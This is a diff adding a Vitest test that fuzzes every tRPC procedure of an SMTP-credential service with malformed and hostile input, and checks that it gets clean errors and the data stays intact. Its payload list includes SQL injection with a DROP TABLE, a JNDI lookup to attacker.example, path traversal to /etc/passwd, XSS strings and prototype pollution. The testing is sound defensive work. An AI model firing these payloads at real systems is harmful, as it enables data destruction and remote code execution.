@@ -1,0 +1,186 @@
+import { TRPCError } from "@trpc/server";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { ZodType } from "zod";
+import { procedurePaths } from "./procedures.test-support";
+import { appRouter } from "./root";
+import { type ApiHarness, type Caller, createApiHarness, type TestOrganization } from "./testing";
+
+/**
+ * Every procedure, fed oversized, wrongly typed and injection-shaped input. Whatever its schema refuses must come
+ * back as a clean BAD_REQUEST; whatever its schema lets through must reach the database and come back as an answer
+ * or a domain code — never INTERNAL_SERVER_ERROR.
+ */
+const procedures = appRouter._def.procedures as unknown as Record<
+  string,
+  { _def: { inputs: ZodType[]; type: "query" | "mutation" | "subscription" } }
+>;
+
+const HUGE = "x".repeat(200_000);
+const INJECTIONS = [
+  "' OR '1'='1",
+  "'; DROP TABLE smtp_credentials; --",
+  "admin'--",
+  "%",
+  "_%_",
+  "\\",
+  "\0",
+  "nul\0inside",
+  ["$", "{jndi:ldap://attacker.example/a}"].join(""),
+  "{{7*7}}",
+  "../../../../etc/passwd",
+  "<script>alert(1)</script>",
+  "\u202eevil\u202c",
+  "🙂".repeat(40),
+  "\ud800",
+  " ",
+  "999999999999999999",
+  "-1",
+  "00000000-0000-0000-0000-000000000000",
+  "00000000-0000-0000-0000-00000000000G",
+];
+const WRONG_TYPES: unknown[] = [
+  null,
+  42,
+  -1,
+  1.5,
+  1e308,
+  Number.NaN,
+  true,
+  [],
+  ["a", "b"],
+  {},
+  { $gt: "" },
+  { toString: "x" },
+  HUGE,
+  new Date(0),
+];
+/** Whole inputs that are not the object a procedure expects. */
+const WRONG_WHOLE_INPUTS: unknown[] = [undefined, null, "input", 7, [], [{}], HUGE, { ["__proto__"]: { admin: true } }];
+
+function procedureFn(caller: Caller, path: string): (input: unknown) => Promise<unknown> {
+  let node: unknown = caller;
+  for (const part of path.split(".")) node = (node as Record<string, unknown>)[part];
+  if (typeof node !== "function") throw new Error(`no procedure at ${path}`);
+  return node as (input: unknown) => Promise<unknown>;
+}
+
+async function outcomeOf(call: () => Promise<unknown>): Promise<string> {
+  try {
+    await call();
+    return "OK";
+  } catch (error) {
+    if (error instanceof TRPCError) return error.code;
+    throw error;
+  }
+}
+
+function schemaAccepts(path: string, input: unknown): boolean {
+  const [schema] = procedures[path]?._def.inputs ?? [];
+  return schema ? schema.safeParse(input).success : true;
+}
+
+describe("hostile input to every tRPC procedure", () => {
+  let h: ApiHarness;
+  let org: TestOrganization;
+  const valid: Record<string, Record<string, unknown>> = {};
+  const answered: Array<{ path: string; input: string; code: string }> = [];
+
+  let owner: Caller;
+  /** The owner's caller; signing out gets a fresh session each time, so it spoils nothing for the others. */
+  async function callerFor(path: string): Promise<Caller> {
+    if (path === "auth.signIn" || path === "auth.signUp") return h.anonymous();
+    if (path !== "auth.signOut") return owner;
+    const { token } = await h.core.sessions.create(org.owner.id);
+    return h.asSession(token, org.id);
+  }
+
+  async function attempt(path: string, input: unknown) {
+    const accepted = schemaAccepts(path, input);
+    // A subscription that is accepted would stream forever; its refusals are what this test can check here.
+    if (procedures[path]?._def.type === "subscription" && accepted) return;
+    const caller = await callerFor(path);
+    const code = await outcomeOf(async () => {
+      const result = await procedureFn(caller, path)(input);
+      if (result && typeof result === "object" && Symbol.asyncIterator in result) {
+        await (result as AsyncIterable<unknown>)[Symbol.asyncIterator]().next();
+      }
+    });
+    const shown = JSON.stringify(input)?.slice(0, 60) ?? String(input);
+    answered.push({ path, input: shown, code });
+    if (!accepted) expect({ path, input: shown, code }).toEqual({ path, input: shown, code: "BAD_REQUEST" });
+  }
+
+  beforeAll(async () => {
+    h = await createApiHarness();
+    org = await h.createOrganization();
+    owner = await h.asSession(org.owner.sessionToken, org.id);
+    const { credential } = await owner.smtpCredentials.create({ username: "hostile_target" });
+    const { apiKey } = await h.createApiKey(org.id);
+    const member = await h.addMember(org.id, "viewer");
+    const invitation = await owner.members.invite({ role: "viewer" });
+    const invitationId = (await owner.members.invitations())[0]?.id ?? "";
+    const ids = { id: credential.id };
+    Object.assign(valid, {
+      "apiKeys.create": { name: "key", role: "viewer" },
+      "apiKeys.revoke": { id: apiKey.id },
+      "auditLog.list": { limit: 10 },
+      "auth.signIn": { email: "someone@example.com", password: "some-password-1" },
+      "auth.signUp": { email: "new@example.com", password: "new-password-12", organizationName: "New" },
+      "events.subscribe": { types: ["auth.rejected"] },
+      "members.acceptInvitation": { token: invitation.token },
+      "members.add": { email: "someone@example.com", role: "viewer" },
+      "members.invite": { role: "viewer" },
+      "members.previewInvitation": { token: invitation.token },
+      "members.remove": { userId: member.id },
+      "members.revokeInvitation": { id: invitationId },
+      "members.setRole": { userId: member.id, role: "viewer" },
+      "organizations.create": { name: "Another" },
+      "organizations.rename": { name: "Renamed" },
+      "smtpCredentials.create": { description: "d" },
+      "smtpCredentials.delete": ids,
+      "smtpCredentials.get": ids,
+      "smtpCredentials.list": { search: "hostile" },
+      "smtpCredentials.regeneratePassword": ids,
+      "smtpCredentials.setActive": { ...ids, active: true },
+      "smtpCredentials.update": { ...ids, description: "d" },
+    });
+  });
+  afterAll(() => h.destroy());
+
+  for (const path of procedurePaths()) {
+    it(`${path} answers wrong, oversized and injection-shaped input cleanly`, async () => {
+      const base = valid[path] ?? {};
+      for (const input of WRONG_WHOLE_INPUTS) await attempt(path, input);
+      for (const key of Object.keys(base)) {
+        for (const value of [...WRONG_TYPES, ...INJECTIONS, `${INJECTIONS[1]}${HUGE}`]) {
+          await attempt(path, { ...base, [key]: value });
+        }
+      }
+      const mine = answered.filter((a) => a.path === path);
+      expect(mine.length).toBeGreaterThan(0);
+      expect(mine.filter((a) => a.code === "INTERNAL_SERVER_ERROR")).toEqual([]);
+    });
+  }
+
+  it("covers every procedure that takes input with a valid base to corrupt", () => {
+    const takingInput = procedurePaths().filter((path) => (procedures[path]?._def.inputs.length ?? 0) > 0);
+    expect(takingInput.filter((path) => !valid[path])).toEqual([]);
+  });
+
+  it("leaves the database intact after the injection attempts", async () => {
+    const owner = await h.asSession(org.owner.sessionToken, org.id);
+    const listed = await owner.smtpCredentials.list({ search: "" });
+    expect(listed.items.length).toBeGreaterThan(0);
+    expect((await owner.organizations.current()).id).toBe(org.id);
+  });
+
+  it("stores descriptions with HTML and script verbatim, and returns them as text", async () => {
+    const owner = await h.asSession(org.owner.sessionToken, org.id);
+    const description = `<script>alert("x")</script><img src=x onerror=alert(1)> & "quotes" 'single' </textarea>`;
+    const { credential } = await owner.smtpCredentials.create({ username: "html_desc", description });
+    expect(credential.description).toBe(description);
+    expect((await owner.smtpCredentials.get({ id: credential.id })).description).toBe(description);
+    const found = await owner.smtpCredentials.list({ search: "html_desc" });
+    expect(found.items.map((c) => c.description)).toEqual([description]);
+  });
+});
